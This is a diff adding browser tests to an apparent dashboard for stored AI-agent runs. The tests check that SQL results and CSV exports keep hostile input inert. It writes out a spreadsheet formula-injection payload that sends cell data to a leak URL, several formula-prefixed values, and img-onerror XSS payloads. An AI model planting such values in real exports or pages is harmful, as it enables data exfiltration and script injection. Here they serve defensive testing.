@@ -10,12 +10,15 @@ ran, nothing was fetched from outside the dashboard, the text is shown as text.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import threading
 import urllib.parse
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 from typing import Any
 
 import httpx
@@ -331,5 +334,87 @@ def test_unbroken_words_shortcodes_and_control_characters_stay_in_the_page(
                 assert "\U0001f604" not in text, path
                 # Control characters shown as escapes, not sent to the terminal-less DOM.
                 assert "\x1b" not in text and "\x00" not in text, path
+                # Bidi overrides and zero-width characters shown too: none reorders or
+                # hides the text around it.
+                assert not set(text) & set("\u202e\u202c\ufeff"), path
+                assert "\\u202eevil\\u202c" in text, path
     assert errors == [], errors
     page.set_viewport_size({"width": 1400, "height": 1000})
+
+
+# A spreadsheet evaluates a cell starting with one of these (collector/csv_cells.py).
+FORMULA_TASK = '=HYPERLINK("{leak}/csv?"&A1,"open")'
+FORMULA_ANSWER = "@SUM(1,1)"
+FORMULA_AGENT = "-2+3"
+
+
+def _run_sql_page(page: Any, served: Served, query: str, *, shown: str) -> None:
+    """Type ``query`` on the SQL page, run it, and wait for ``shown`` (a selector).
+
+    The collector's SQL worker is made ready first through the API, so the page's
+    one run of the query is answered, not told to wait for the worker's copy."""
+
+    def ready() -> bool:
+        answer = httpx.post(f"{served.seeded.api_url}/sql", json={"sql": "SELECT 1"}, timeout=30)
+        return answer.status_code == 200
+
+    wait_until(ready, timeout_s=90, interval_s=1, what="the SQL worker's copy")
+    page.goto(f"{served.url}/sql")
+    box = page.locator("textarea").first
+    box.fill(query)
+    box.press("Control+Enter")
+    page.get_by_role("button", name="Run query").click()
+    page.locator(shown).first.wait_for()
+
+
+def test_sql_page_shows_stored_markup_as_text_and_its_csv_holds_no_formula(
+    served: Served, leak: LeakListener, hostile_runs: tuple[str, str]
+) -> None:
+    page: Any = served.page
+    traced_into(served.collector)
+    with agent_run(FORMULA_TASK.format(leak=leak.url), agent_name=FORMULA_AGENT) as run:
+        run.finish(final_answer=FORMULA_ANSWER)
+    formula_id = run.id
+    wait_until(
+        lambda: any(
+            r["id"] == formula_id and r["status"] == "completed"
+            for r in api_runs(served.seeded.api_url)
+        ),
+        timeout_s=20,
+        what="the formula run stored",
+    )
+    ids = ", ".join(f"'{i}'" for i in (*hostile_runs, formula_id))
+    _run_sql_page(
+        page,
+        served,
+        "SELECT id, task, final_answer, agent_name, error, -5 AS n"
+        f" FROM agent_runs WHERE id IN ({ids}) ORDER BY id",
+        shown="[data-testid=stDownloadButton]",
+    )
+    _inert(page, leak, "sql results")
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Download CSV").click()
+    rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text("utf-8"))))
+    by_id = {row["id"]: row for row in rows}
+    assert set(by_id) == {*hostile_runs, formula_id}
+    formula = by_id[formula_id]
+    assert formula["task"] == "'" + FORMULA_TASK.format(leak=leak.url)
+    assert formula["final_answer"] == "'" + FORMULA_ANSWER
+    assert formula["agent_name"] == "'" + FORMULA_AGENT
+    assert {row["n"] for row in rows} == {"-5"}  # a number stays a number
+    # The markup is in the file as the text it was.
+    assert by_id[hostile_runs[0]]["task"].startswith("task <img src=x onerror=")
+
+    # A refused query naming markup: its reason is shown as text.
+    _run_sql_page(
+        page,
+        served,
+        # A column of that name does not exist: the refusal quotes it.
+        'SELECT "<img src=x onerror=window.__xss=1>" FROM agent_runs',
+        shown="[data-testid=stCode]",
+    )
+    main = page.locator("[data-testid=stMain]")
+    assert "The collector refused the query" in main.inner_text()
+    assert "<img src=x onerror=window.__xss=1>" in main.inner_text()
+    _inert(page, leak, "sql refusal")
+    assert leak.paths == []
